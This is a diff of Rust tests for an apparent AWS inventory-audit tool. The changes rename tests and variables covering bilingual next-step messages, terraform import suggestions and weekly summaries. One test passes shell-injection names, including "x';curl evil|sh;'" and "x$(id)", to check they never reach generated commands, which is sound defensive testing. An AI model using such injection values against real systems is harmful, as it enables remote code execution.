@@ -96,7 +96,7 @@ fn a_word_of_a_command_is_one_word_for_a_shell() {
 }
 
 #[test]
-fn every_problem_tells_a_command_or_a_field_in_both_languages() {
+fn every_finding_has_a_command_or_a_field_in_both_languages() {
     let why = || "s3:GetObject failed (AccessDenied): x".to_owned();
     let row = row("rds-instance", "moveongs-dev-db", Vec::new());
     for (problem, expected) in [
@@ -151,19 +151,19 @@ fn every_problem_tells_a_command_or_a_field_in_both_languages() {
         (Problem::OneTeam, "rotation.secrets.….responsible.backup"),
         (Problem::EmptyArea, "inventory.areas.database.resources"),
     ] {
-        let mut said = BTreeSet::new();
+        let mut sentences = BTreeSet::new();
         for language in [Language::Portuguese, Language::English] {
             let next = next_step(&settings(language), &row, &problem);
             assert!(next.contains(expected), "{problem:?}: {next}");
-            said.insert(sentence(&problem, language));
+            sentences.insert(sentence(&problem, language));
         }
-        assert_eq!(said.len(), 2, "{problem:?}");
+        assert_eq!(sentences.len(), 2, "{problem:?}");
         assert_eq!(shared::audit::findings::key_of(&line(&row, &problem)), row.key(&problem));
     }
 }
 
 #[test]
-fn a_secret_is_imported_by_its_arn_and_an_unknown_kind_is_looked_at() {
+fn a_secret_is_imported_by_its_arn_and_another_kind_is_looked_up() {
     let secret = Row {
         import: Some(("aws_secretsmanager_secret", "arn:aws:x:x".to_owned())),
         ..row("secret", "x", vec![])
@@ -177,8 +177,8 @@ fn a_secret_is_imported_by_its_arn_and_an_unknown_kind_is_looked_at() {
             .contains("get-resources --resource-arn-list 'arn:aws:x:x'")
     );
     for hostile in ["x';curl evil|sh;'", "x`id`", "x$(id)", "x y", "x\ny", "é"] {
-        let said = import(&row("cloudwatch:alarm", hostile, vec![]), Language::English);
-        assert!(said.contains("in the console") && !said.contains(hostile), "{said}");
+        let command = import(&row("cloudwatch:alarm", hostile, vec![]), Language::English);
+        assert!(command.contains("in the console") && !command.contains(hostile), "{command}");
     }
     let area = row("area", "database", vec![]);
     let next = next_step(&settings(Language::English), &area, &Problem::OneTeam);
@@ -198,7 +198,7 @@ fn a_page_names_both_teams_and_the_next_step() {
 }
 
 #[test]
-fn the_channel_is_reported_what_is_new_and_once_a_week_everything() {
+fn the_message_lists_new_findings_and_once_a_week_all() {
     let rows: Vec<_> = (0..12)
         .map(|number| row("s3-bucket", &format!("b{number:02}"), vec![Problem::NotInInventory]))
         .chain([row("tagged-resources", "x", vec![Problem::ListUnread { why: "y".to_owned() }])])
@@ -208,8 +208,8 @@ fn the_channel_is_reported_what_is_new_and_once_a_week_everything() {
         new: keys(&["NotInInventory s3-bucket b03"]),
         resolved: keys(&["Missing rds-instance moveongs-dev-db"]),
     };
-    let tell = |is_weekly| {
-        let reported = Summary {
+    let message_of = |is_weekly| {
+        let content = Summary {
             run_id: "2026-03-02",
             rows: &rows,
             changes: &changes,
@@ -217,9 +217,9 @@ fn the_channel_is_reported_what_is_new_and_once_a_week_everything() {
             unread: None,
             quiet: None,
         };
-        summary(&settings(Language::Portuguese), &reported)
+        summary(&settings(Language::Portuguese), &content)
     };
-    let message = tell(false);
+    let message = message_of(false);
     assert_eq!(message.title, "Inventário (dev): 12 achado(s), 1 não verificado(s)");
     assert_eq!(message.lines.len(), 3, "{:?}", message.lines);
     assert!(
@@ -229,7 +229,7 @@ fn the_channel_is_reported_what_is_new_and_once_a_week_everything() {
     );
     assert_eq!(message.lines[1], "Continuam 12: `inventory/inventory.csv`.");
     assert_eq!(message.lines[2], "Resolvido: Missing rds-instance moveongs-dev-db.");
-    let message = tell(true);
+    let message = message_of(true);
     assert!(message.title.starts_with("Inventário, resumo da semana"), "{}", message.title);
     assert_eq!(message.lines.len(), MOST_LINES + 2);
     assert_eq!(message.lines[MOST_LINES], "E mais 5: `inventory/inventory.csv`.");
@@ -247,7 +247,7 @@ fn the_channel_is_reported_what_is_new_and_once_a_week_everything() {
 }
 
 #[test]
-fn a_first_week_begins_with_what_to_do_first() {
+fn the_first_message_of_the_first_week_lists_the_most_urgent_findings_first() {
     let rows: Vec<_> = (0..12)
         .map(|number| {
             let name = format!("b{number:02}");
@@ -257,8 +257,8 @@ fn a_first_week_begins_with_what_to_do_first() {
         .chain([row("rds-instance", "moveongs-dev-db", vec![Problem::Missing { is_in_state: None }])])
         .collect();
     let week = FirstWeek { until: "2026-03-08T12:00:00Z".parse().unwrap(), is_first_day: true };
-    let tell = |is_summary| {
-        let reported = Summary {
+    let message_of = |is_summary| {
+        let content = Summary {
             run_id: "2026-03-02",
             rows: &rows,
             changes: &Changes::default(),
@@ -266,15 +266,15 @@ fn a_first_week_begins_with_what_to_do_first() {
             unread: None,
             quiet: Some(Quiet { week, held: Held { pages: 1, tasks: 0 }, is_summary, place: "s3://b/x.csv" }),
         };
-        summary(&settings(Language::Portuguese), &reported).lines
+        summary(&settings(Language::Portuguese), &content).lines
     };
-    let lines = tell(true);
+    let lines = message_of(true);
     assert!(lines[0].contains("até 2026-03-08 09:00:00 -03:00") && lines[0].contains("s3://b/x.csv"));
     assert_eq!(lines[1], "*Por regra*: Missing 1; NotInState 12.");
     assert!(lines[3].starts_with("1. *Missing* `rds-instance moveongs-dev-db`: não existe"), "{lines:?}");
     assert!(lines[4].starts_with("2. *NotInState* (12): existe na AWS"), "{lines:?}");
     assert!(lines[4].contains("terraform import aws_s3_bucket.NOME NOME"), "{lines:?}");
     assert_eq!(lines.len(), 5, "{lines:?}");
-    let lines = tell(false);
+    let lines = message_of(false);
     assert!(lines[0].starts_with("*Primeira semana*") && lines[1].starts_with("Continuam 13"), "{lines:?}");
 }
